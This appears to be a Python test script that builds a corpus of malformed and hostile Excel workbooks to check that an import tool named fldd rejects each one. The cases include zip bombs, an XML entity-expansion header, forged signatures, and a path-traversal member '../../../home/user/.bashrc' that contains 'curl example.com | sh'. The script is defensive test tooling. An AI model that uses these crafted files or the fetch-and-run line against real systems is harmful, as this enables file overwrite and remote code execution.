"""The corpus of bad workbooks: each file is refused on import with a message that says why.

Built from a real export of the test's own database (the signature is keyed by that database, so the corpus
cannot be a set of stored files). The tests build it in a fixture; run this file to write one to a folder
and try it with the command line:

    .venv/bin/python tests/exchange/make_bad_files.py OUT_DIR
    .venv/bin/fldd --db OUT_DIR/fldd.sqlite3 workbook import OUT_DIR/bad
"""

from __future__ import annotations

import random
import re
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import openpyxl

from fldd.exchange import metadata
from fldd.exchange.layout import META_SHEET

# name -> (what is wrong, a fragment of the expected rejection message)
CASES: dict[str, tuple[str, str]] = {
    "not_xlsx": ("a text file renamed .xlsx", "the file is not a zip archive"),
    "old_xls": ("an old .xls (or password-protected) file", "old-style .xls file or a password-protected"),
    "zip_not_workbook": ("a zip archive that is not a workbook", "it has no xl/workbook.xml"),
    "other_tool": ("a workbook made by another tool", "not an fldd workbook"),
    "unknown_questionnaire": ("metadata naming a questionnaire fldd does not ship", "unknown questionnaire"),
    "unknown_version": ("metadata naming a version fldd does not ship", "is not shipped with this fldd"),
    "content_hash": ("metadata with another content hash", "differs from the one this fldd ships"),
    "unknown_protocol": ("a later exchange protocol", "exchange protocol 2 is unknown"),
    "edited_question": ("a question's text edited", "the question text was changed"),
    "moved_rows": ("two question rows swapped", "rows were moved"),
    "deleted_sheet": ("a module sheet deleted", "the sheet is missing"),
    "tampered_metadata": ("the supplier in the metadata changed", "the signature does not match"),
    "foreign_signature": ("signed by another database", "the signature does not match"),
    "text_in_number": ("text in a number answer", "is not a number"),
    "unknown_label": ("a label that is no option", "is not one of the answers"),
    "bad_tick": ("a multi-choice tick that is not x", "is not a tick"),
    "formula": ("a formula typed as an answer", "holds a formula"),
    "zip_bomb": ("members declaring 4 GB", "refused as a possible zip bomb"),
    "lying_sizes": ("a member larger than it declares", "is damaged"),
    "far_cells": ("a cell far outside the sheet (a memory bomb for readers)", "outside A1:Z9999"),
    "entities": ("XML with a DTD and entities", "declares a DTD"),
    "oversized": ("a 21 MB file", "limit 20 MB"),
    "empty": ("the workbook as it was sent, nothing filled in", "no answers at all"),
    # hostile and damaged files (issue 8): each is refused before any reader picks a part, or by its cell
    "duplicate_sheet_names": ("two sheets named 'Site profile', the second a decoy part",
                              "lists two sheets named 'Site profile'"),
    "duplicate_members": ("two zip members named xl/worksheets/sheet3.xml", "two parts named"),
    "zip_version": ("one flipped byte: the central directory asks for zip version 25.5",
                    "asks for a feature fldd does not read (zip file version 25.5)"),
    "hidden_column": ("a hidden column inserted before the Answer column", "column D should be 'Answer'"),
    "foreign_metadata": ("the hidden metadata of another supplier's workbook copied in",
                         "but its hidden metadata belongs to a workbook sent to 'Other Supplier Co'"),
    "earlier_metadata": ("the hidden metadata of another export to the same supplier copied in",
                         "does not belong to this workbook's hidden metadata"),
    "error_value": ("the error value #DIV/0! in an answer cell", "holds the error value #DIV/0!"),
    "huge_styles": ("a styles part of 60,000 formats, 4.5 MB inflated", "part xl/styles.xml would expand to"),
    "path_traversal": ("an extra member named ../../../home/user/.bashrc", "'../../../home/user/.bashrc', which no"),
    "macro_project": ("a macro project (xl/vbaProject.bin)", "holds a macro project"),
    "macro_content_type": ("an .xlsm renamed: the workbook's content type is macro-enabled",
                           "is a macro-enabled or binary workbook"),
}

GOOD_ANSWERS = {"pr_workers_total": 120, "gov_policy_exists": "Yes", "fee_any_paid": "No"}


@dataclass(frozen=True)
class Case:
    """One bad file and what its import must say."""

    name: str
    path: Path
    about: str
    expected: str


def _rezip(source: Path, target: Path, change: Callable[[str, bytes], bytes]) -> Path:
    with zipfile.ZipFile(source) as zf:
        members = [(info, zf.read(info.filename)) for info in zf.infolist()]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, change(info.filename, data))
    return target


def _edit(source: Path, target: Path, change: Callable[[openpyxl.Workbook], None]) -> Path:
    wb = openpyxl.load_workbook(source)
    change(wb)
    wb.save(target)
    return target


def _meta(wb: openpyxl.Workbook) -> dict[str, str]:
    return {row[0].value: row[1].value for row in wb[META_SHEET].iter_rows()}


def _set_meta(wb: openpyxl.Workbook, secret: str | None, **values: str) -> None:
    """Change metadata values, re-signing them with `secret` (None: leave the old signature)."""
    ws = wb[META_SHEET]
    rows = {row[0].value: row[1] for row in ws.iter_rows()}
    for key, value in values.items():
        rows[key].value = value
    if secret is not None:
        rows[metadata.SIGNATURE].value = metadata.sign({k: c.value for k, c in rows.items()}, secret)


def _module_sheet(wb: openpyxl.Workbook, title_part: str = "Policy"):
    return next(ws for ws in wb.worksheets if ws.title.startswith(title_part))


def _swap_rows(ws, a: int, b: int) -> None:
    for col in range(1, 9):
        top, bottom = ws.cell(row=a, column=col), ws.cell(row=b, column=col)
        top.value, bottom.value = bottom.value, top.value


def _patch_central_sizes(data: bytes, size: int) -> bytes:
    """Every member's declared uncompressed size set to `size` in the central directory."""
    out = bytearray(data)
    for match in re.finditer(rb"PK\x01\x02", data):
        out[match.start() + 24:match.start() + 28] = struct.pack("<I", size)
    return bytes(out)


def _shrink_declared(data: bytes, member: str) -> bytes:
    """One member's declared uncompressed size made smaller than it is, in both of its headers."""
    out = bytearray(data)
    name = member.encode()
    for match in re.finditer(rb"PK\x01\x02", data):
        start = match.start()
        name_len = struct.unpack("<H", data[start + 28:start + 30])[0]
        if data[start + 46:start + 46 + name_len] == name:
            out[start + 24:start + 28] = struct.pack("<I", 100)
            local = struct.unpack("<I", data[start + 42:start + 46])[0]
            out[local + 22:local + 26] = struct.pack("<I", 100)
    return bytes(out)


def _add_members(source: Path, target: Path, extra: dict[str, bytes],
                 change: Callable[[str, bytes], bytes] = lambda name, data: data) -> Path:
    """The workbook with extra members appended (a name already there gives a second member of that name)."""
    with zipfile.ZipFile(source) as zf:
        members = [(info, zf.read(info.filename)) for info in zf.infolist()]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name: that is the point
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
            for info, data in members:
                zf.writestr(info, change(info.filename, data))
            for name, data in extra.items():
                zf.writestr(name, data)
    return target


def _part_holding(path: Path, marker: bytes) -> tuple[str, bytes]:
    """The first member whose bytes hold `marker`, and its bytes."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            if marker in data:
                return name, data
    raise KeyError(marker)


def _flip_version(data: bytes) -> bytes:
    """The first central directory entry's 'version needed to extract' set to 25.5 (one byte)."""
    out = bytearray(data)
    out[data.find(b"PK\x01\x02") + 6] = 0xFF
    return bytes(out)


def _huge_styles(count: int = 60_000) -> bytes:
    """A styles part with `count` cell formats that do not compress away (so no ratio guard catches it first)."""
    rng = random.Random(8)
    xfs = "".join(f'<xf numFmtId="{rng.randrange(200)}" fontId="{rng.randrange(999)}" fillId="{rng.randrange(99)}" '
                  f'borderId="{rng.randrange(99)}" xfId="0" applyNumberFormat="1"/>' for _ in range(count))
    return ('<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main"><cellXfs count="{count}">{xfs}</cellXfs></styleSheet>').encode()


def _hide_column_before_answers(wb: openpyxl.Workbook) -> None:
    """Insert a column at D in a module sheet, hide it, and fill it: the typed answers move to E."""
    ws = _module_sheet(wb)
    ws.insert_cols(4)
    ws.column_dimensions["D"].hidden = True
    for row in range(2, 8):
        ws.cell(row=row, column=4).value = "No"


def build_corpus(good: Path, empty: Path, folder: Path, secret: str, *, other: Path | None = None,
                 earlier: Path | None = None) -> list[Case]:
    """Every bad case, made from `good` (a filled, valid workbook), `empty` (as exported), `other` (exported to
    another supplier, 'Other Supplier Co', of the same database) and `earlier` (an earlier export to the same
    supplier). Without `other` and `earlier`, the cases that need them are left out."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, Path] = {}

    def path(name: str) -> Path:
        return folder / f"{name}.xlsx"

    path("not_xlsx").write_text("Dear buyer, please find our answers attached.\n", encoding="utf-8")
    made["not_xlsx"] = path("not_xlsx")
    path("old_xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    made["old_xls"] = path("old_xls")
    with zipfile.ZipFile(path("zip_not_workbook"), "w") as zf:
        zf.writestr("answers.txt", "yes, no, yes")
    made["zip_not_workbook"] = path("zip_not_workbook")
    foreign = openpyxl.Workbook()
    foreign.active.append(["Question", "Answer"])
    foreign.active.append(["Does your company have a written policy?", "Yes"])
    foreign.save(path("other_tool"))
    made["other_tool"] = path("other_tool")
    made["unknown_questionnaire"] = _edit(good, path("unknown_questionnaire"),
                                          lambda wb: _set_meta(wb, secret, questionnaire="fldd-nonesuch"))
    made["unknown_version"] = _edit(good, path("unknown_version"), lambda wb: _set_meta(wb, secret, version="9.9.9"))
    made["content_hash"] = _edit(good, path("content_hash"), lambda wb: _set_meta(wb, secret, content_hash="0" * 64))
    made["unknown_protocol"] = _edit(good, path("unknown_protocol"), lambda wb: _set_meta(wb, secret, protocol="2"))

    def edit_question(wb):
        ws = _module_sheet(wb)
        ws["C2"].value = "Does your company have a written policy that ALLOWS forced labour?"

    made["edited_question"] = _edit(good, path("edited_question"), edit_question)
    made["moved_rows"] = _edit(good, path("moved_rows"), lambda wb: _swap_rows(_module_sheet(wb), 15, 16))
    made["deleted_sheet"] = _edit(good, path("deleted_sheet"), lambda wb: wb.remove(_module_sheet(wb, "Working")))
    made["tampered_metadata"] = _edit(good, path("tampered_metadata"),
                                      lambda wb: _set_meta(wb, None, supplier_name="Someone Else Ltd"))
    made["foreign_signature"] = _edit(good, path("foreign_signature"),
                                      lambda wb: _set_meta(wb, "ab" * 32, exported_by="another buyer"))
    made["text_in_number"] = _edit(good, path("text_in_number"),
                                   lambda wb: _put(wb, "Site profile", "D2", "about a hundred"))
    made["unknown_label"] = _edit(good, path("unknown_label"), lambda wb: _put(wb, "Policy", "D2", "Maybe"))
    made["bad_tick"] = _edit(good, path("bad_tick"), lambda wb: _put(wb, "Policy", "D4", "perhaps"))
    made["formula"] = _edit(good, path("formula"), lambda wb: _put(wb, "Site profile", "D2", "=100+20", text=False))
    made["zip_bomb"] = path("zip_bomb")
    made["zip_bomb"].write_bytes(_patch_central_sizes(good.read_bytes(), 0xFFFF0000))
    made["lying_sizes"] = path("lying_sizes")
    made["lying_sizes"].write_bytes(_shrink_declared(good.read_bytes(), "xl/workbook.xml"))
    made["far_cells"] = _edit(good, path("far_cells"), lambda wb: _put(wb, "Site profile", "XFD1048576", "x"))
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>')
    made["entities"] = _rezip(good, path("entities"), lambda name, data: bomb + re.sub(rb"^<\?xml[^>]*\?>", b"", data)
                              if name == "xl/workbook.xml" else data)
    with path("oversized").open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)
    made["oversized"] = path("oversized")
    made["empty"] = path("empty")
    made["empty"].write_bytes(empty.read_bytes())
    _hostile(good, made, path)
    for name, source in (("foreign_metadata", other), ("earlier_metadata", earlier)):
        if source is not None:
            made[name] = _rezip(good, path(name), partial(_swapped, *_part_holding(source, b"supplier_uid")))
    assert set(made) <= set(CASES) and set(CASES) - set(made) <= {"foreign_metadata", "earlier_metadata"}
    return [Case(name, made[name], *CASES[name]) for name in CASES if name in made]


def _swapped(part: str, replacement: bytes, member: str, data: bytes) -> bytes:
    return replacement if member == part else data


def _hostile(good: Path, made: dict[str, Path], path: Callable[[str], Path]) -> None:
    """The hostile and damaged files of issue 8."""
    workbook = zipfile.ZipFile(good).read("xl/workbook.xml")
    site = re.search(rb'<sheet name="Site profile" [^>]*r:id="(rId\d+)"', workbook).group(1)
    decoy = re.search(rb'<sheet name="Policy and management" [^>]*r:id="(rId\d+)"', workbook).group(1)
    made["duplicate_sheet_names"] = _rezip(good, path("duplicate_sheet_names"), lambda name, data: data.replace(
        b"</sheets>", b'<sheet name="Site profile" sheetId="99" r:id="' + decoy + b'"/></sheets>')
        if name == "xl/workbook.xml" else data)
    assert site != decoy
    sheet, xml = _part_holding(good, b"pr_workers_total")
    made["duplicate_members"] = _add_members(good, path("duplicate_members"),
                                             {sheet: xml.replace(b"<v>120</v>", b"<v>9999</v>")})
    made["zip_version"] = path("zip_version")
    made["zip_version"].write_bytes(_flip_version(good.read_bytes()))
    made["hidden_column"] = _edit(good, path("hidden_column"), _hide_column_before_answers)
    made["error_value"] = _rezip(good, path("error_value"), lambda name, data: re.sub(
        rb'<c r="D2"[^>]*?(?:/>|>.*?</c>)', b'<c r="D2" t="e"><v>#DIV/0!</v></c>', data, count=1, flags=re.DOTALL)
        if name == sheet else data)
    made["huge_styles"] = _rezip(good, path("huge_styles"),
                                 lambda name, data: _huge_styles() if name == "xl/styles.xml" else data)
    made["path_traversal"] = _add_members(good, path("path_traversal"),
                                          {"../../../home/user/.bashrc": b"curl example.com | sh\n"})
    made["macro_project"] = _add_members(good, path("macro_project"), {"xl/vbaProject.bin": bytes(2048)})
    made["macro_content_type"] = _rezip(good, path("macro_content_type"), lambda name, data: data.replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
        if name == "[Content_Types].xml" else data)


def _put(wb: openpyxl.Workbook, sheet_start: str, ref: str, value: str, *, text: bool = True) -> None:
    ws = next(ws for ws in wb.worksheets if ws.title.startswith(sheet_start))
    ws[ref].value = value
    if text:
        ws[ref].data_type = "s"


def main(argv: list[str]) -> int:
    """Write a database, a good workbook and the corpus of bad ones to a folder."""
    from fldd.usecases.context import open_context
    from fldd.usecases.exchange import export_workbook, workbook_secret
    from fldd.usecases.suppliers import add_supplier

    if len(argv) != 1:
        print(__doc__)
        return 2
    out = Path(argv[0])
    out.mkdir(parents=True, exist_ok=True)
    ctx = open_context(out / "fldd.sqlite3", user="buyer")
    supplier_id = add_supplier(ctx, "Corpus Supplier Ltd", "MY", goods=["Garments"])
    earlier = export_workbook(ctx, supplier_id, "fldd-desktop", out / "earlier.xlsx").path
    empty = export_workbook(ctx, supplier_id, "fldd-desktop", out / "sent.xlsx").path
    other_id = add_supplier(ctx, "Other Supplier Co", "VN", goods=["Garments"])
    other = export_workbook(ctx, other_id, "fldd-desktop", out / "other.xlsx").path
    good = _fill_good(empty, out / "good.xlsx")
    cases = build_corpus(good, empty, out / "bad", workbook_secret(ctx), other=other, earlier=earlier)
    ctx.close()
    for case in cases:
        print(f"{case.path.name:28} {case.about}")
    return 0


def _fill_good(empty: Path, target: Path) -> Path:
    wb = openpyxl.load_workbook(empty)
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_col=1, max_col=4):
            if row[0].value in GOOD_ANSWERS:
                row[3].value = GOOD_ANSWERS[row[0].value]
    wb.save(target)
    return target


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
